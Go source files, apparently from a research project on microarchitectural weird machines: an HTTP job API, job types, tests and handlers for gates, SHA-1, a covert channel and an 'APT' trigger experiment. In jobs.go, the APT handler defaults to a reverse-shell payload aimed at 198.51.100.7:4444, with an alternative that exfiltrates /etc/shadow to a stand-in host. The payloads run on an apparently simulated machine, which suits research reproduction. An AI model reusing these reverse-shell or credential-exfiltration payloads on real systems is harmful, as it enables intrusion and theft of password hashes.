			strconv.Itoa(retryAfterFrom(e.Stats().QueueDepth, e.DrainRate())))
		writeJSON(w, http.StatusTooManyRequests, errorBody{Error: err.Error()})
		return
	case errors.Is(err, engine.ErrClosed):
		writeJSON(w, http.StatusServiceUnavailable, errorBody{Error: err.Error()})
		return
	case err != nil:
		writeJSON(w, http.StatusBadRequest, errorBody{Error: err.Error()})
		return
	}

	wait := req.Wait || r.URL.Query().Get("wait") == "1"
	if !wait {
		writeJSON(w, http.StatusAccepted, job.Snapshot())
		return
	}
	// Synchronous submission: the job keeps its own deadline; the
	// request context only bounds how long this client waits for it.
	select {
	case <-job.Done():
		writeJSON(w, http.StatusOK, job.Snapshot())
	case <-r.Context().Done():
		// The job still runs; hand back the poll handle.
		writeJSON(w, http.StatusAccepted, job.Snapshot())
	}
}

// retryAfterFrom derives the 429 Retry-After hint from live queue
// state: the seconds the current backlog needs to drain at the
// recently observed completion rate, clamped into [1, 30]. A pool
// with no recent completions (cold start, or every worker wedged on
// long jobs) reports 1 — an optimistic early retry beats advising a
// long wait on no evidence. The clamp's ceiling keeps a deep queue
// from telling clients (and the cluster gateway's shedding-aware
// router) to go away for minutes when the estimate is necessarily
// rough.
func retryAfterFrom(queueDepth int, drainRate float64) int {
	if drainRate <= 0 {
		return 1
	}
	secs := int(math.Ceil(float64(queueDepth+1) / drainRate))
	if secs < 1 {
		secs = 1
	}
	if secs > 30 {
		secs = 30
	}
	return secs
}

func writeJSON(w http.ResponseWriter, code int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	// The status line is already on the wire; an encode error here can
	// only mean the client went away.
	_ = enc.Encode(v)
}
