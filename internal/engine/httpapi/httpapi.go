// Package httpapi exposes an engine.Engine as a small JSON-over-HTTP
// job service. The surface is deliberately tiny:
//
//	POST /v1/jobs      submit a job; ?wait=1 (or "wait": true) blocks
//	                   for the result, otherwise 202 + a pollable id
//	GET  /v1/jobs      list retained jobs
//	GET  /v1/jobs/{id} poll one job
//	GET  /v1/types     registered job types
//	GET  /healthz      pool stats; 503 once the engine is draining
//
// Backpressure maps directly: a full engine queue turns into HTTP 429
// with a Retry-After hint, so load shedding happens at the edge
// instead of by queue growth.
package httpapi

import (
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"time"

	"uwm/internal/engine"
)

// maxBodyBytes bounds a submission body; params are small JSON
// objects, not payload blobs.
const maxBodyBytes = 1 << 20

// JobRequest is the POST /v1/jobs body.
type JobRequest struct {
	// Type selects a registered job type (see GET /v1/types).
	Type string `json:"type"`
	// Params is the handler-specific parameter object.
	Params json.RawMessage `json:"params,omitempty"`
	// TimeoutMS bounds the job's execution in milliseconds; zero uses
	// the engine default.
	TimeoutMS int64 `json:"timeout_ms,omitempty"`
	// Seed, Attempts and Vote override the engine's derived sub-seed
	// and retry policy per job (zero keeps the defaults).
	Seed     uint64 `json:"seed,omitempty"`
	Attempts int    `json:"attempts,omitempty"`
	Vote     int    `json:"vote,omitempty"`
	// Wait makes the submission synchronous: the response carries the
	// terminal snapshot instead of a pollable 202.
	Wait bool `json:"wait,omitempty"`
}

// errorBody is the uniform error envelope.
type errorBody struct {
	Error string `json:"error"`
}

// New returns the service's http.Handler.
func New(e *engine.Engine) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /v1/jobs", func(w http.ResponseWriter, r *http.Request) {
		submit(e, w, r)
	})
	mux.HandleFunc("GET /v1/jobs", func(w http.ResponseWriter, r *http.Request) {
		jobs := e.Jobs()
		snaps := make([]engine.Snapshot, len(jobs))
		for i, j := range jobs {
			snaps[i] = j.Snapshot()
		}
		writeJSON(w, http.StatusOK, snaps)
	})
	mux.HandleFunc("GET /v1/jobs/{id}", func(w http.ResponseWriter, r *http.Request) {
		j, ok := e.Get(r.PathValue("id"))
		if !ok {
			writeJSON(w, http.StatusNotFound, errorBody{Error: "no such job"})
			return
		}
		writeJSON(w, http.StatusOK, j.Snapshot())
	})
	mux.HandleFunc("GET /v1/types", func(w http.ResponseWriter, _ *http.Request) {
		writeJSON(w, http.StatusOK, engine.JobTypes())
	})
	mux.HandleFunc("GET /healthz", func(w http.ResponseWriter, _ *http.Request) {
		st := e.Stats()
		code := http.StatusOK
		if st.Draining {
			code = http.StatusServiceUnavailable
		}
		writeJSON(w, code, st)
	})
	return mux
}

func submit(e *engine.Engine, w http.ResponseWriter, r *http.Request) {
	body, err := io.ReadAll(io.LimitReader(r.Body, maxBodyBytes+1))
	if err != nil {
		writeJSON(w, http.StatusBadRequest, errorBody{Error: "reading body: " + err.Error()})
		return
	}
	if len(body) > maxBodyBytes {
		writeJSON(w, http.StatusRequestEntityTooLarge, errorBody{Error: "body too large"})
		return
	}
	var req JobRequest
	if len(body) > 0 {
		if err := json.Unmarshal(body, &req); err != nil {
			writeJSON(w, http.StatusBadRequest, errorBody{Error: "bad request JSON: " + err.Error()})
			return
		}
	}

	job, err := e.Submit(engine.JobSpec{
		Type:     req.Type,
		Params:   req.Params,
		Timeout:  time.Duration(req.TimeoutMS) * time.Millisecond,
		Seed:     req.Seed,
		Attempts: req.Attempts,
		Vote:     req.Vote,
	})
	switch {
	case errors.Is(err, engine.ErrQueueFull):
		w.Header().Set("Retry-After", "1")
		writeJSON(w, http.StatusTooManyRequests, errorBody{Error: err.Error()})
		return
	case errors.Is(err, engine.ErrClosed):
		writeJSON(w, http.StatusServiceUnavailable, errorBody{Error: err.Error()})
		return
	case err != nil:
		writeJSON(w, http.StatusBadRequest, errorBody{Error: err.Error()})
		return
	}

	wait := req.Wait || r.URL.Query().Get("wait") == "1"
	if !wait {
		writeJSON(w, http.StatusAccepted, job.Snapshot())
		return
	}
	// Synchronous submission: the job keeps its own deadline; the
	// request context only bounds how long this client waits for it.
	select {
	case <-job.Done():
		writeJSON(w, http.StatusOK, job.Snapshot())
	case <-r.Context().Done():
		// The job still runs; hand back the poll handle.
		writeJSON(w, http.StatusAccepted, job.Snapshot())
	}
}

func writeJSON(w http.ResponseWriter, code int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	// The status line is already on the wire; an encode error here can
	// only mean the client went away.
	_ = enc.Encode(v)
}
