package engine

import (
	"encoding/json"
	"sync"
	"time"
)

// Status is a job's lifecycle state.
type Status string

// Job lifecycle states. A job is Queued from Submit until a worker
// picks it up, Running while its attempts execute, and then exactly one
// of Done (a result was produced), Failed (every attempt errored or the
// per-job deadline expired) or Canceled (the engine was torn down with
// the job still in flight).
const (
	StatusQueued   Status = "queued"
	StatusRunning  Status = "running"
	StatusDone     Status = "done"
	StatusFailed   Status = "failed"
	StatusCanceled Status = "canceled"
)

// Terminal reports whether the status is final.
func (s Status) Terminal() bool {
	return s == StatusDone || s == StatusFailed || s == StatusCanceled
}

// JobSpec describes one unit of weird-machine work. Type selects a
// registered handler; Params is the handler's own JSON parameter
// object.
type JobSpec struct {
	Type   string          `json:"type"`
	Params json.RawMessage `json:"params,omitempty"`

	// Timeout bounds the job's execution (not its queue wait); zero
	// selects the engine's DefaultTimeout. The deadline is enforced at
	// gate boundaries: a job whose context expires abandons its gate
	// loop mid-circuit.
	Timeout time.Duration `json:"-"`

	// Seed overrides the derived per-job sub-seed when non-zero, for
	// replaying one job of a previous run in isolation. Zero (the
	// default) derives noise.SubSeed(engine seed, submission index),
	// which is what makes pooled runs reproduce serial runs.
	Seed uint64 `json:"seed,omitempty"`

	// Attempts and Vote override the engine's retry policy for this
	// job when positive: Attempts bounds the redundant executions,
	// Vote is the agreement count a result needs to win early.
	Attempts int `json:"attempts,omitempty"`
	Vote     int `json:"vote,omitempty"`

	// RequestID is the caller's correlation id (the HTTP front end's
	// X-Request-Id). The engine attaches it, with the job id, as an
	// annotation on the job's trace spans, so an offline trace can be
	// filtered down to one request's work.
	RequestID string `json:"request_id,omitempty"`
}

// Result is the engine's envelope around a handler's output: the voted
// value plus the redundancy accounting that produced it — the paper's
// reliability-through-redundancy discussion as first-class data.
type Result struct {
	Value json.RawMessage `json:"value"`
	// Attempts is how many executions actually ran (early quorum stops
	// the loop before the configured maximum).
	Attempts int `json:"attempts"`
	// Votes is how many attempts agreed on Value byte-for-byte.
	Votes int `json:"votes"`
	// Quorum reports whether Votes reached the vote threshold; false
	// means Value is only a plurality winner.
	Quorum bool `json:"quorum"`
	// Retries counts attempts that errored before a value was produced.
	Retries int `json:"retries"`
	// Ballots counts the distinct result candidates the attempts
	// produced; more than one means the machine disagreed with itself —
	// the flight recorder's keep-on-disagreement signal.
	Ballots int `json:"ballots,omitempty"`
}

// Job is one submitted unit of work. All accessors are safe for
// concurrent use; Snapshot returns a consistent copy for serving.
type Job struct {
	id      string
	seq     uint64
	subSeed uint64
	spec    JobSpec

	mu        sync.Mutex
	status    Status
	result    *Result
	err       string
	submitted time.Time
	started   time.Time
	finished  time.Time

	done chan struct{}
}

// ID returns the job's engine-assigned identifier.
func (j *Job) ID() string { return j.id }

// SubSeed returns the seed the job's attempts derive their randomness
// from.
func (j *Job) SubSeed() uint64 { return j.subSeed }

// annotation renders the correlation attribute attached to the job's
// trace spans.
func (j *Job) annotation() string {
	if j.spec.RequestID == "" {
		return "job=" + j.id
	}
	return "job=" + j.id + " request_id=" + j.spec.RequestID
}

// Done returns a channel closed when the job reaches a terminal state.
func (j *Job) Done() <-chan struct{} { return j.done }

// Snapshot is a consistent, serializable copy of a job's state.
type Snapshot struct {
	ID        string          `json:"id"`
	Type      string          `json:"type"`
	Status    Status          `json:"status"`
	SubSeed   uint64          `json:"sub_seed"`
	RequestID string          `json:"request_id,omitempty"`
	Params    json.RawMessage `json:"params,omitempty"`
	Result    *Result         `json:"result,omitempty"`
	Error     string          `json:"error,omitempty"`
	Submitted time.Time       `json:"submitted_at"`
	Started   *time.Time      `json:"started_at,omitempty"`
	Finished  *time.Time      `json:"finished_at,omitempty"`
}

// Snapshot returns the job's current state.
func (j *Job) Snapshot() Snapshot {
	j.mu.Lock()
	defer j.mu.Unlock()
	s := Snapshot{
		ID:        j.id,
		Type:      j.spec.Type,
		Status:    j.status,
		SubSeed:   j.subSeed,
		RequestID: j.spec.RequestID,
		Params:    j.spec.Params,
		Result:    j.result,
		Error:     j.err,
		Submitted: j.submitted,
	}
	if !j.started.IsZero() {
		t := j.started
		s.Started = &t
	}
	if !j.finished.IsZero() {
		t := j.finished
		s.Finished = &t
	}
	return s
}

// Status returns the job's current lifecycle state.
func (j *Job) Status() Status {
	j.mu.Lock()
	defer j.mu.Unlock()
	return j.status
}

// Result returns the voted result, or nil while the job is not Done.
func (j *Job) Result() *Result {
	j.mu.Lock()
	defer j.mu.Unlock()
	return j.result
}

// Err returns the failure message, or "" when the job did not fail.
func (j *Job) Err() string {
	j.mu.Lock()
	defer j.mu.Unlock()
	return j.err
}

func (j *Job) setRunning() {
	j.mu.Lock()
	j.status = StatusRunning
	j.started = time.Now()
	j.mu.Unlock()
}

// finish records the terminal state without waking Done() waiters.
// The worker signals completion separately (signalDone) only after the
// flight-recorder decision is in place — a waiter released here could
// immediately GET the job's trace, and must not race the keep decision.
func (j *Job) finish(st Status, res *Result, errMsg string) {
	j.mu.Lock()
	j.status = st
	j.result = res
	j.err = errMsg
	j.finished = time.Now()
	j.mu.Unlock()
}

func (j *Job) signalDone() {
	close(j.done)
}
