package engine

import (
	"testing"
	"time"
)

func TestRateTrackerEmptyReportsZero(t *testing.T) {
	var rt rateTracker
	if r := rt.rate(time.Now()); r != 0 {
		t.Fatalf("rate with no completions = %v, want 0", r)
	}
}

func TestRateTrackerSteadyCompletions(t *testing.T) {
	var rt rateTracker
	base := time.Unix(1000, 0)
	// Ten completions spaced 100ms apart: 10 jobs over the 1s window
	// ending "now".
	for i := 0; i < 10; i++ {
		rt.record(base.Add(time.Duration(i+1) * 100 * time.Millisecond))
	}
	got := rt.rate(base.Add(1100 * time.Millisecond))
	if got < 9 || got > 11 {
		t.Fatalf("rate = %v jobs/s, want ~10", got)
	}
}

func TestRateTrackerDecaysWhileIdle(t *testing.T) {
	var rt rateTracker
	base := time.Unix(1000, 0)
	for i := 0; i < 10; i++ {
		rt.record(base.Add(time.Duration(i) * 100 * time.Millisecond))
	}
	busy := rt.rate(base.Add(time.Second))
	idle := rt.rate(base.Add(30 * time.Second))
	if idle >= busy/10 {
		t.Fatalf("idle rate %v did not decay from busy rate %v", idle, busy)
	}
}

func TestRateTrackerRingKeepsNewestWindow(t *testing.T) {
	var rt rateTracker
	base := time.Unix(1000, 0)
	// Overfill the ring: 100 completions, one per 10ms. Only the newest
	// 64 remain, so the window spans 640ms, not a second.
	for i := 0; i < 100; i++ {
		rt.record(base.Add(time.Duration(i+1) * 10 * time.Millisecond))
	}
	now := base.Add(time.Second)
	got := rt.rate(now)
	// 64 completions over the 630ms window (oldest retained at 370ms):
	// ~101 jobs/s.
	if got < 90 || got > 115 {
		t.Fatalf("rate over the retained window = %v jobs/s, want ~101", got)
	}
}

// TestDrainRateVisibleAfterJobs pins the public surface: completions
// recorded by the worker pool show up through Engine.DrainRate.
func TestDrainRateVisibleAfterJobs(t *testing.T) {
	e := newTestEngine(t, Config{Workers: 1})
	submitGateBatch(t, e, 3)
	if r := e.DrainRate(); r <= 0 {
		t.Fatalf("DrainRate after 3 completed jobs = %v, want > 0", r)
	}
}
