package engine

import (
	"encoding/json"
	"testing"

	"uwm/internal/circopt"
)

// circuitSpecJSON is a tiny explicit netlist: out = (in0 & in1) | in0.
var circuitSpecJSON = circopt.SpecJSON{
	NumInputs: 2,
	Gates: []circopt.GateJSON{
		{Op: "and", A: 0, B: 1},
		{Op: "or", A: 2, B: 0},
	},
	Outputs: []int{3},
}

// TestCircuitJobPresets runs every preset through the circuit job type
// and checks the optimizer actually earned its keep.
func TestCircuitJobPresets(t *testing.T) {
	e := newTestEngine(t, Config{Workers: 2})
	for _, circuit := range []string{"adder8", "adder16", "adder32", "sha1round"} {
		random := 3
		if circuit == "sha1round" {
			random = 1 // 224 inputs, keep the test quick
		}
		j := mustSubmit(t, e, JobSpec{
			Type:   JobTypeCircuit,
			Params: rawParams(t, CircuitParams{Circuit: circuit, Random: random}),
		})
		snap := waitJob(t, j)
		if snap.Status != StatusDone {
			t.Fatalf("circuit %s: status %s, err %q", circuit, snap.Status, snap.Error)
		}
		var res CircuitResult
		if err := json.Unmarshal(snap.Result.Value, &res); err != nil {
			t.Fatalf("circuit %s: bad result: %v", circuit, err)
		}
		if res.Circuit != circuit {
			t.Errorf("result names %q, want %q", res.Circuit, circuit)
		}
		if res.GatesOut >= res.GatesIn || res.Eliminated == 0 {
			t.Errorf("circuit %s: optimizer eliminated nothing (%d in, %d out)",
				circuit, res.GatesIn, res.GatesOut)
		}
		if len(res.Fingerprint) != 64 {
			t.Errorf("circuit %s: fingerprint %q is not sha256 hex", circuit, res.Fingerprint)
		}
		if len(res.Outputs) != random || len(res.Golden) != random {
			t.Errorf("circuit %s: %d/%d output rows, want %d",
				circuit, len(res.Outputs), len(res.Golden), random)
		}
		// The paper's gates err, but a whole batch below coin-flip
		// would mean the netlist mapping is broken.
		if res.Accuracy < 0.5 {
			t.Errorf("circuit %s: accuracy %.2f below 0.5", circuit, res.Accuracy)
		}
	}
}

// TestCircuitJobOptimizedMatchesUnoptimized is the equivalence
// property surfaced at the job level: the optimized plan and the
// unoptimized serial walk must produce byte-identical outputs for the
// same submission under the engine's replayable noise profile.
func TestCircuitJobOptimizedMatchesUnoptimized(t *testing.T) {
	inputs := [][]int{
		{1, 0, 1, 1, 0, 0, 1, 0, 0, 1, 1, 1, 0, 1, 0, 1},
		{0, 1, 1, 0, 1, 0, 0, 1, 1, 0, 0, 1, 1, 0, 1, 0},
	}
	opt := false
	results := make([]CircuitResult, 2)
	for i, optimize := range []*bool{nil, &opt} {
		// Fresh engines so both jobs get submission index 0 — the same
		// job sub-seed, hence the same noise stream.
		e := newTestEngine(t, Config{Workers: 1})
		j := mustSubmit(t, e, JobSpec{
			Type:   JobTypeCircuit,
			Params: rawParams(t, CircuitParams{Circuit: "adder8", Inputs: inputs, Optimize: optimize}),
		})
		snap := waitJob(t, j)
		if snap.Status != StatusDone {
			t.Fatalf("status %s, err %q", snap.Status, snap.Error)
		}
		if err := json.Unmarshal(snap.Result.Value, &results[i]); err != nil {
			t.Fatal(err)
		}
	}
	optimized, serial := results[0], results[1]
	if serial.GatesOut != serial.GatesIn {
		t.Errorf("unoptimized run reports %d of %d gates — it must not optimize",
			serial.GatesOut, serial.GatesIn)
	}
	if optimized.Fingerprint != serial.Fingerprint {
		t.Errorf("fingerprints differ: %s vs %s", optimized.Fingerprint, serial.Fingerprint)
	}
	for v := range inputs {
		if !equalInts(optimized.Outputs[v], serial.Outputs[v]) {
			t.Errorf("vector %d: optimized %v != unoptimized %v",
				v, optimized.Outputs[v], serial.Outputs[v])
		}
	}
}

// TestCircuitJobPlanCache: repeated submissions of the same netlist
// hit the engine's shared content-addressed cache.
func TestCircuitJobPlanCache(t *testing.T) {
	e := newTestEngine(t, Config{Workers: 1})
	for i := 0; i < 3; i++ {
		j := mustSubmit(t, e, JobSpec{
			Type:   JobTypeCircuit,
			Params: rawParams(t, CircuitParams{Circuit: "adder8", Random: 1}),
		})
		if snap := waitJob(t, j); snap.Status != StatusDone {
			t.Fatalf("submission %d: status %s, err %q", i, snap.Status, snap.Error)
		}
	}
	hits, misses, entries := e.plans.Stats()
	if misses != 1 || hits != 2 || entries != 1 {
		t.Errorf("plan cache hits=%d misses=%d entries=%d, want 2/1/1", hits, misses, entries)
	}
}

// TestCircuitJobExplicitSpec submits a netlist inline instead of by
// preset name.
func TestCircuitJobExplicitSpec(t *testing.T) {
	e := newTestEngine(t, Config{Workers: 1})
	j := mustSubmit(t, e, JobSpec{
		Type:   JobTypeCircuit,
		Params: rawParams(t, CircuitParams{Spec: &circuitSpecJSON, Inputs: [][]int{{0, 0}, {1, 0}, {1, 1}}}),
	})
	snap := waitJob(t, j)
	if snap.Status != StatusDone {
		t.Fatalf("status %s, err %q", snap.Status, snap.Error)
	}
	var res CircuitResult
	if err := json.Unmarshal(snap.Result.Value, &res); err != nil {
		t.Fatal(err)
	}
	if res.Circuit != "custom" {
		t.Errorf("result names %q, want custom", res.Circuit)
	}
	if res.Total != 3 {
		t.Errorf("scored %d bits, want 3 (one output × three vectors)", res.Total)
	}
}

// TestCircuitJobRejectsBadParams covers the validation surface.
func TestCircuitJobRejectsBadParams(t *testing.T) {
	e := newTestEngine(t, Config{Workers: 1})
	for name, params := range map[string]CircuitParams{
		"unknown preset":  {Circuit: "nope"},
		"wrong arity":     {Circuit: "adder8", Inputs: [][]int{{1, 0}}},
		"both selections": {Circuit: "adder8", Spec: &circuitSpecJSON},
	} {
		j := mustSubmit(t, e, JobSpec{Type: JobTypeCircuit, Params: rawParams(t, params)})
		if snap := waitJob(t, j); snap.Status != StatusFailed {
			t.Errorf("%s: status %s, want failed", name, snap.Status)
		}
	}
}
