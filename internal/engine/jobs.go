package engine

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"sort"
	"sync"

	"uwm/internal/circopt"
	"uwm/internal/core"
	"uwm/internal/covert"
	"uwm/internal/noise"
	"uwm/internal/sha1wm"
	"uwm/internal/wmapt"
)

// Handler executes one attempt of a job type against a worker's Env.
// The returned value is JSON-marshaled for voting, so it must
// serialize deterministically (no maps with mixed key order, no
// pointers compared by address). Handlers must honor ctx at gate
// boundaries: check it once per gate activation (or per byte, per
// ping) and abandon the loop when it is done.
type Handler func(ctx context.Context, env *Env, params json.RawMessage) (any, error)

// Built-in job types.
const (
	JobTypeGate    = "gate"
	JobTypeSHA1    = "sha1"
	JobTypeAPT     = "apt"
	JobTypeCovert  = "covert"
	JobTypeCircuit = "circuit"
)

var (
	handlersMu sync.RWMutex
	handlers   = map[string]Handler{
		JobTypeGate:    runGateJob,
		JobTypeSHA1:    runSHA1Job,
		JobTypeAPT:     runAPTJob,
		JobTypeCovert:  runCovertJob,
		JobTypeCircuit: runCircuitJob,
	}
)

// Register adds (or replaces) a job type. Call before the engine
// starts accepting submissions.
func Register(name string, h Handler) {
	handlersMu.Lock()
	handlers[name] = h
	handlersMu.Unlock()
}

func lookupHandler(name string) (Handler, bool) {
	handlersMu.RLock()
	h, ok := handlers[name]
	handlersMu.RUnlock()
	return h, ok
}

// JobTypes returns the registered job type names, sorted.
func JobTypes() []string {
	handlersMu.RLock()
	names := make([]string, 0, len(handlers))
	for n := range handlers {
		names = append(names, n)
	}
	handlersMu.RUnlock()
	sort.Strings(names)
	return names
}

// decodeParams unmarshals params into dst, treating empty params as
// all-defaults and unknown fields as submission errors.
func decodeParams(params json.RawMessage, dst any) error {
	if len(params) == 0 {
		return nil
	}
	dec := json.NewDecoder(bytes.NewReader(params))
	dec.DisallowUnknownFields()
	if err := dec.Decode(dst); err != nil {
		return fmt.Errorf("engine: bad job params: %w", err)
	}
	return nil
}

// message decodes the shared message parameter shape: Text wins when
// set, otherwise B64 is decoded, otherwise the fallback is used.
func decodeMessage(text, b64 string, fallback []byte) ([]byte, error) {
	switch {
	case text != "":
		return []byte(text), nil
	case b64 != "":
		data, err := base64.StdEncoding.DecodeString(b64)
		if err != nil {
			return nil, fmt.Errorf("engine: bad base64 message: %w", err)
		}
		return data, nil
	default:
		return fallback, nil
	}
}

// --- gate jobs ---------------------------------------------------------

// GateParams selects a gate by name and the input vectors to run.
// Names cover both families: AND, OR, NAND, AND_AND_OR run through the
// redundant skelly library; TSX_AND, TSX_OR, TSX_XOR, TSX_ASSIGN run
// the transactional gates directly.
type GateParams struct {
	Gate string `json:"gate"`
	// Inputs lists explicit activations, one vector per activation.
	Inputs [][]int `json:"inputs,omitempty"`
	// Random adds this many uniformly drawn input vectors (from the
	// attempt's derived RNG) when Inputs is empty; default 16.
	Random int `json:"random,omitempty"`
	// MinAccuracy, when positive, is a quality floor: the attempt fails
	// with an error when the run's accuracy lands below it. Under a
	// fixed sub-seed the whole evaluation is deterministic, so a floor
	// plus injected drift is the reproducible way to force a job failure
	// — the flight recorder's keep-on-error path exercised on demand.
	MinAccuracy float64 `json:"min_accuracy,omitempty"`
}

// GateResult reports every activation's outputs next to the golden
// truth table, plus the aggregate accuracy.
type GateResult struct {
	Gate     string  `json:"gate"`
	Outputs  [][]int `json:"outputs"`
	Golden   [][]int `json:"golden"`
	Correct  int     `json:"correct"`
	Total    int     `json:"total"`
	Accuracy float64 `json:"accuracy"`
}

func runGateJob(ctx context.Context, env *Env, params json.RawMessage) (any, error) {
	p := GateParams{Gate: "AND_AND_OR"}
	if err := decodeParams(params, &p); err != nil {
		return nil, err
	}

	// Resolve the gate in either family behind one closure.
	var arity int
	var run func(in []int) ([]int, error)
	var golden func(in []int) []int
	if g := env.Rig().BPGate(p.Gate); g != nil {
		arity = g.Arity()
		run = func(in []int) ([]int, error) {
			v, err := g.Run(in...)
			if err != nil {
				return nil, err
			}
			return []int{v}, nil
		}
		golden = func(in []int) []int { return []int{g.Golden(in)} }
	} else if g, ok := env.Rig().TSX[p.Gate]; ok {
		arity = g.Arity()
		run = func(in []int) ([]int, error) { return g.Run(in...) }
		golden = g.Golden
	} else {
		return nil, fmt.Errorf("engine: unknown gate %q", p.Gate)
	}

	inputs := p.Inputs
	if len(inputs) == 0 {
		n := p.Random
		if n <= 0 {
			n = 16
		}
		rng := env.RNG()
		inputs = make([][]int, n)
		for i := range inputs {
			vec := make([]int, arity)
			for k := range vec {
				vec[k] = rng.Bit()
			}
			inputs[i] = vec
		}
	}

	res := GateResult{Gate: p.Gate, Outputs: make([][]int, 0, len(inputs)), Golden: make([][]int, 0, len(inputs))}
	for _, in := range inputs {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		if len(in) != arity {
			return nil, fmt.Errorf("engine: gate %s wants %d inputs, got %d", p.Gate, arity, len(in))
		}
		out, err := run(in)
		if err != nil {
			return nil, err
		}
		want := golden(in)
		res.Outputs = append(res.Outputs, out)
		res.Golden = append(res.Golden, want)
		res.Total++
		if equalInts(out, want) {
			res.Correct++
		}
	}
	if res.Total > 0 {
		res.Accuracy = float64(res.Correct) / float64(res.Total)
	}
	// Feed the scored outcomes to the worker's health monitor: margins
	// arrive via the trace tap, but correctness only the handler knows.
	// This happens before the quality floor fires so a failing run still
	// updates the error EWMAs — the monitor must see the bad batch.
	if h := env.Rig().Health; h != nil {
		h.ObserveOutcome(res.Gate, res.Correct, res.Total)
	}
	// Same reasoning for the SLO ledger: the gate-accuracy budget counts
	// ops, so the tally lands before the floor can turn them into an
	// errored attempt.
	env.RecordGateOutcome(res.Correct, res.Total)
	if p.MinAccuracy > 0 && res.Accuracy < p.MinAccuracy {
		return nil, fmt.Errorf("engine: gate %s accuracy %.3f below floor %.3f (%d/%d correct)",
			p.Gate, res.Accuracy, p.MinAccuracy, res.Correct, res.Total)
	}
	return res, nil
}

func equalInts(a, b []int) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// --- sha1 jobs ---------------------------------------------------------

// SHA1Params carries the message to hash, as text or base64.
type SHA1Params struct {
	Message string `json:"message,omitempty"`
	B64     string `json:"message_b64,omitempty"`
}

// SHA1Result is the weird digest next to the architectural reference.
// Match is false when gate errors corrupted the computation — exactly
// the case the engine's vote-of-N policy exists to outvote.
type SHA1Result struct {
	Digest    string `json:"digest"`
	Reference string `json:"reference"`
	Match     bool   `json:"match"`
	GateOps   uint64 `json:"gate_ops"`
}

func runSHA1Job(ctx context.Context, env *Env, params json.RawMessage) (any, error) {
	var p SHA1Params
	if err := decodeParams(params, &p); err != nil {
		return nil, err
	}
	msg, err := decodeMessage(p.Message, p.B64, []byte("weird machines compute with time"))
	if err != nil {
		return nil, err
	}

	// A full weird SHA-1 runs tens of thousands of gate activations;
	// the checkpoint makes every one of them a cancellation point so a
	// deadline stops the hash mid-circuit instead of after it.
	sk := env.Rig().Skelly
	sk.SetCheckpoint(ctx.Err)
	defer sk.SetCheckpoint(nil)

	before := sk.TotalGateOps()
	sum, err := env.Rig().Hasher.Sum(msg)
	if err != nil {
		return nil, err
	}
	ref := sha1wm.Sum(msg)
	return SHA1Result{
		Digest:    hex.EncodeToString(sum[:]),
		Reference: hex.EncodeToString(ref[:]),
		Match:     sum == ref,
		GateOps:   sk.TotalGateOps() - before,
	}, nil
}

// --- apt jobs ----------------------------------------------------------

// APTParams configures one trigger experiment: install the payload on
// a fresh APT machine (seeded from the attempt seed) and ping it with
// the correct trigger until the weird XOR decodes it and the payload
// fires.
type APTParams struct {
	// Payload is "reverse-shell" (default) or "exfil-shadow".
	Payload string `json:"payload,omitempty"`
	// Addr/Port parameterize the reverse shell.
	Addr string `json:"addr,omitempty"`
	Port uint16 `json:"port,omitempty"`
	// Path/Dest parameterize the exfiltration payload.
	Path string `json:"path,omitempty"`
	Dest string `json:"dest,omitempty"`
	// MaxPings bounds the experiment (default 10000, the paper
	// experiment's bound).
	MaxPings int `json:"max_pings,omitempty"`
}

// APTResult reports how long the trigger took to land.
type APTResult struct {
	Payload string   `json:"payload"`
	Pings   int      `json:"pings"`
	Events  []string `json:"events"`
}

func runAPTJob(ctx context.Context, env *Env, params json.RawMessage) (any, error) {
	p := APTParams{Payload: "reverse-shell", Addr: "198.51.100.7", Port: 4444,
		Path: "/etc/shadow", Dest: "198.51.100.7:443", MaxPings: 10000}
	if err := decodeParams(params, &p); err != nil {
		return nil, err
	}
	var payload wmapt.Payload
	switch p.Payload {
	case "reverse-shell":
		payload = wmapt.ReverseShell{Addr: p.Addr, Port: p.Port}
	case "exfil-shadow":
		payload = wmapt.ExfilShadow{Path: p.Path, Dest: p.Dest}
	default:
		return nil, fmt.Errorf("engine: unknown payload %q", p.Payload)
	}

	// The APT owns its machine (the paper runs it on a dedicated rig
	// with its own noise profile), seeded from the attempt seed so the
	// experiment replays exactly. The ping loop is inlined rather than
	// delegated to wmapt.RunTriggerExperiment so each ping is a
	// cancellation point.
	host := wmapt.NewEnv()
	apt, err := wmapt.New(host, wmapt.Options{Seed: env.Seed()})
	if err != nil {
		return nil, err
	}
	pad, err := apt.Install(payload)
	if err != nil {
		return nil, err
	}
	if p.MaxPings <= 0 {
		p.MaxPings = 10000
	}
	for i := 0; i < p.MaxPings; i++ {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		res, err := apt.HandlePing(pad)
		if err != nil {
			return nil, err
		}
		if res != nil {
			return APTResult{Payload: res.Payload, Pings: res.PingsReceived, Events: res.Events}, nil
		}
	}
	return nil, fmt.Errorf("engine: apt trigger did not fire within %d pings", p.MaxPings)
}

// --- covert jobs -------------------------------------------------------

// CovertParams configures a round trip through the worker's data-cache
// weird register.
type CovertParams struct {
	Message string `json:"message,omitempty"`
	B64     string `json:"message_b64,omitempty"`
	// Reps is the per-bit redundancy (majority of reps writes/reads);
	// default 3.
	Reps int `json:"reps,omitempty"`
}

// CovertResult reports the received bytes and the bit-error accounting
// of the round trip.
type CovertResult struct {
	SentB64     string  `json:"sent_b64"`
	ReceivedB64 string  `json:"received_b64"`
	Bits        int     `json:"bits"`
	BitErrors   int     `json:"bit_errors"`
	ErrorRate   float64 `json:"error_rate"`
}

func runCovertJob(ctx context.Context, env *Env, params json.RawMessage) (any, error) {
	p := CovertParams{Reps: 3}
	if err := decodeParams(params, &p); err != nil {
		return nil, err
	}
	msg, err := decodeMessage(p.Message, p.B64, []byte("uwm covert channel"))
	if err != nil {
		return nil, err
	}
	ch := covert.NewChannel(env.Rig().DC, p.Reps)
	received := make([]byte, 0, len(msg))
	// Byte-at-a-time so the deadline is honored between register slots.
	for i := range msg {
